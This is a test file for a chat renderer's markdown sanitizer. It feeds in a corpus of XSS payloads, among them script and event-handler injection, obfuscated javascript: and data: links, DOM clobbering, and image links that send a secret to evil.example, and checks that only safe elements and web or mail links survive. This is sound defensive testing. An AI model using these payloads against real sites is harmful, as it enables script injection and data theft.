// What a message may never become: script, handlers, forms, frames, styles, pictures, or links that
// open anything but a web page or a mail. Every case is also cut at every length, as streaming does.
import { describe, expect, it } from "vitest";
import { rich } from "../src/markdown/render";

const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><button>Sign in</button></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<div style='position:fixed;inset:0'>cover</div>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](smb://host/share)",
  "[x](ms-msdt:/id)",
  "[x](patchbay://auth/callback?code=1)",
  "[x](//evil.example/a)",
  "[x](/relative)",
  "[x](#hash)",
  "[x](https://a.example/\u202egnp.exe)",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x][1]\n\n[1]: https://evil.example/pixel.png",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<https://ok.example/\"onmouseover=alert(1)>",
  "https://ok.example/\"onmouseover=alert(1)",
  "[x](https://ok.example \"a\" onclick=\"alert(1)\")",
  "```html\n<script>alert(1)</script>\n```",
  "```js\n\"</code></pre><script>alert(1)</script>\"\n```",
  "```\"><script>alert(1)</script>\ncode\n```",
  "``` language-x\" onload=alert(1)\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script> | [x](javascript:1) |",
  "> <svg onload=alert(1)>",
  "# <a id=cookie name=forms>clobber</a>",
  "<a name=getElementById></a><form id=x><input name=attributes></form>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\u0000<script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
];

const ELEMENTS = new Set(
  "P BR HR STRONG EM S CODE PRE BLOCKQUOTE UL OL LI A SPAN H1 H2 H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD DIV BUTTON".split(" "),
);
const ATTRIBUTES = new Set(["href", "class", "start", "rel", "tabindex", "type", "data-testid", "data-picture"]);

function check(source: string, closed: boolean): void {
  const host = document.createElement("div");
  host.append(rich(source, { closed }));
  for (const element of host.querySelectorAll("*")) {
    expect(ELEMENTS, `${element.tagName} from ${JSON.stringify(source)}`).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES, `${name} from ${JSON.stringify(source)}`).toContain(name);
      if (name === "href") expect(value, JSON.stringify(source)).toMatch(/^(https?:|mailto:)[^\s\u202a-\u202e]*$/i);
    }
    // The only buttons are our own.
    if (element.tagName === "BUTTON") expect(["bar", "md-picture"]).toContain(element.parentElement?.className);
  }
}

describe("a message can not become anything but text, lists, tables, code and web links", () => {
  for (const source of CORPUS) {
    it(JSON.stringify(source).slice(0, 80), () => {
      for (let end = 1; end <= source.length; end += 1) check(source.slice(0, end), false);
      check(source, true);
      check(`before\n\n${source}\n\nafter`, true);
    });
  }

  it("keeps the links that may be asked to open", () => {
    const host = document.createElement("div");
    host.append(rich("[a](https://ok.example/x) and https://also.example and [m](mailto:a@b.example)", { closed: true }));
    const links = [...host.querySelectorAll("a")].map((link) => link.getAttribute("href"));
    expect(links).toEqual(["https://ok.example/x", "https://also.example", "mailto:a@b.example"]);
  });

  it("colours closed code only, and keeps its text to the letter", () => {
    const code = "fn main() { let a = \"<b>\"; }\n";
    const source = "```rust\n" + code + "```";
    const open = rich(source, { closed: false });
    const closed = rich(source, { closed: true });
    expect(open.querySelectorAll(".hljs-keyword")).toHaveLength(0);
    expect(closed.querySelectorAll(".hljs-keyword").length).toBeGreaterThan(0);
    expect(closed.querySelector("pre")?.textContent).toBe(code);
  });

  it("aligns table cells by class, without a style", () => {
    const table = rich("| a | b |\n| --: | :-: |\n| 1 | 2 |", { closed: true });
    expect(table.querySelector("td.is-right")?.textContent).toBe("1");
    expect(table.querySelectorAll("[style]")).toHaveLength(0);
  });
});
